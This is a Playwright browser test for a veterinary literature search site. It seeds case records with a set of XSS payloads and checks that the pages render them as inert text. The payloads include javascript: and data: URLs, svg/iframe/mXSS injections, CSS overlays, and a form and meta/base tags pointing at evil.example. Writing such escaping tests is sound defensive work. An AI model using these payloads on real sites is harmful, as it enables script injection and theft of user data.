"""Hostile titles and abstracts render inert in a real browser (Playwright + Debian chromium).

``test_browser.py`` covers ``<script>`` and ``<img onerror>``; this file throws
the rest of the usual bag at every record field the pages show (title,
abstract, journal, authors, affiliations, keywords): event-handler attributes
on the very tags the site keeps (``<i onmouseover>``), ``<svg onload>``,
``<iframe>``, ``<object>``, ``javascript:`` and ``data:`` links, ``<style>``
blocks and ``style=`` attributes that would hide or overlay the page,
``<meta refresh>``, ``<base>``, ``<form>``, mutation-XSS shapes and entity-encoded
markup.  Each payload sets ``window.__pwned`` or opens a dialog if it ever runs.

Checked on the results page and on each case page, with the Content-Security-
Policy on and bypassed (escaping alone must be enough): nothing ran, no
request left for another host, the record text shows as the characters it is,
and the DOM inside ``<main>`` holds no handler attribute, no active element, no
``javascript:``/``data:`` URL and no record-supplied style.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode, urlsplit

import pytest

from browser_support import ARTIFACTS, needs_chromium
from petcasefinder.loadtest import serve
from petcasefinder.records import Article
from serve_data import add_cases, copy_db

QUERY = {"q": "my dog keeps vomiting, swallowed a foreign body", "species": "dog", "limit": "50"}

pytestmark = [
    pytest.mark.browser,
    needs_chromium,
]

P = "window.__pwned='{}'"
PAYLOADS = {
    "svg-onload": f'<svg onload="{P}"><circle r=9 /></svg>',
    "allowed-tag-handlers": f'<i onmouseover="{P}" onclick="{P}" style="position:fixed;inset:0">x</i>'
                            f'<sup/onload={P}>2</sup>',
    "iframe": f'<iframe src="javascript:{P}"></iframe><iframe srcdoc="<script>parent.{P}</script>"></iframe>',
    "javascript-link": f'<a href="javascript:{P}">click me</a><a href=" JaVaScRiPt:{P}">again</a>',
    "data-url": f'<a href="data:text/html,<script>{P}</script>">open</a>'
                f'<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "object-embed": f'<object data="javascript:{P}"></object><embed src="data:text/html,x">',
    "style-block": "<style>body{display:none} main{visibility:hidden} *{background:url(http://evil.example/x)}"
                   "</style>",
    "style-attr": '<b style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:9999">'
                  "overlay</b>",
    "meta-base-link": '<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">'
                      '<link rel="stylesheet" href="http://evil.example/x.css">',
    "form": f'<form action="http://evil.example/steal"><input name=q autofocus onfocus="{P}"></form>',
    "mxss": f'<math><mtext><table><mglyph><style><img src=x onerror="{P}">',
    "close-title": f'</title></textarea></script><script>{P}</script><!--',
    "entity-encoded": f"&lt;script&gt;{P}&lt;/script&gt; &#60;img src=x onerror={P}&#62;",
    "markdown-ish": f"[click](javascript:{P}) ]]> <![CDATA[<script>{P}</script>]]>",
}


def _record(n: int, label: str, pwn: str) -> Article:
    return Article(
        title=f"Persistent vomiting and a gastric foreign body in a dog {pwn} treated with <i>maropitant</i>",
        abstract=(f"A 5-year-old neutered male dog was presented with persistent vomiting for one week. {pwn} "
                  "Radiography showed a gastric foreign body, removed by gastrotomy. The dog recovered fully."),
        pmid=f"9999960{n:02d}",
        doi=f"10.9999/hostile.{label}",
        journal=f"Journal of {pwn} Records",
        year=2026,
        authors=(f"Tester {pwn}", "Second A"),
        affiliations=(f"Clinic {pwn}",),
        keywords=(f"vomiting {pwn}",),
        sources=("test",),
    )


RECORDS = [_record(i, label, payload.replace("{}", label)) for i, (label, payload) in enumerate(PAYLOADS.items())]


@pytest.fixture(scope="module")
def site(demo_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("hostile")
    db = copy_db(demo_db, folder / "hostile.db")
    add_cases(db, RECORDS)
    with serve(db, workers=1, log=folder / "serve.log") as base:
        yield base



# a DOM audit run in the page: what in <main> could run, load or restyle
AUDIT = """() => {
  const main = document.querySelector('main');
  const bad = [];
  for (const el of main.querySelectorAll('*')) {
    for (const a of el.attributes) {
      const v = a.value.trim().toLowerCase();
      if (a.name.startsWith('on')) bad.push(`${el.tagName} ${a.name}`);
      if (['href', 'src', 'action', 'formaction', 'data', 'srcdoc', 'xlink:href'].includes(a.name)
          && (v.startsWith('javascript:') || v.startsWith('data:') || v.includes('evil.example')))
        bad.push(`${el.tagName} ${a.name}=${v.slice(0, 40)}`);
      if (a.name === 'style') bad.push(`${el.tagName} style`);
    }
    const t = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'svg', 'math', 'style', 'link', 'meta', 'base', 'img',
         'textarea'].includes(t)) bad.push(t);
    if (t === 'form' && !(el.getAttribute('action') || '').startsWith('/')) bad.push('foreign form');
  }
  const sheets = [...document.styleSheets].map(s => s.href || 'inline');
  return {bad, sheets, pwned: window.__pwned === undefined ? null : String(window.__pwned),
          mainVisible: getComputedStyle(main).visibility === 'visible' && getComputedStyle(document.body).display !== 'none',
          base: document.baseURI};
}"""


def _open(browser: Any, base: str, bypass_csp: bool) -> Any:
    ctx = browser.new_context(viewport={"width": 1280, "height": 900}, bypass_csp=bypass_csp)
    page = ctx.new_page()
    page.dialogs, page.foreign = [], []
    page.on("dialog", lambda d: (page.dialogs.append(d.message), d.dismiss()))
    host = urlsplit(base).netloc
    page.on("request", lambda r: page.foreign.append(r.url) if urlsplit(r.url).netloc not in (host, "") else None)
    return page


def _audit(page: Any, base: str, where: str) -> None:
    page.wait_for_load_state("load")
    page.hover("main h1")
    page.mouse.click(5, 5)
    report = page.evaluate(AUDIT)
    assert report["pwned"] is None and page.dialogs == [], f"{where}: a payload ran: {report['pwned']} {page.dialogs}"
    assert report["bad"] == [], f"{where}: active or styled markup from a record: {report['bad']}"
    assert all(s.startswith(base + "/static/") for s in report["sheets"]), f"{where}: {report['sheets']}"
    assert report["mainVisible"] and report["base"].startswith(base), where
    assert page.foreign == [], f"{where}: requests left the site: {page.foreign}"


@pytest.mark.parametrize("bypass_csp", [False, True], ids=["with-csp", "escaping-alone"])
def test_hostile_records_render_inert(site: str, browser: Any, bypass_csp: bool) -> None:
    page = _open(browser, site, bypass_csp)
    try:
        page.goto(f"{site}/search?{urlencode(QUERY)}")
        _audit(page, site, "results")
        shown = [a.pmid for a in RECORDS if page.locator(f"main a[href='/case/{a.pmid}']").count()]
        assert len(shown) >= len(RECORDS) // 2, f"only {shown} of the hostile records are in the results"
        text = page.inner_text("main")
        assert "onmouseover" in text or "<svg onload" in text  # hostile markup is visible as text
        if not bypass_csp:
            ARTIFACTS.mkdir(exist_ok=True)
            page.screenshot(path=str(ARTIFACTS / "robust-hostile-results.png"), full_page=True)
        for a, payload in zip(RECORDS, PAYLOADS.values(), strict=True):
            page.goto(f"{site}/case/{a.pmid}")
            _audit(page, site, f"case {a.pmid}")
            h1 = page.locator("main h1").inner_text()
            assert "Persistent vomiting" in h1 and "maropitant" in h1
            assert page.locator("main h1 i").count() >= 1  # the harmless inline tag is kept, as markup
            body = page.inner_text("main")
            visible = payload.split(">")[0][:12]
            if not visible.startswith("&"):  # entity-encoded text shows decoded once, never as markup
                assert visible in body, f"case {a.pmid}: {visible!r} not shown as text"
    finally:
        page.context.close()
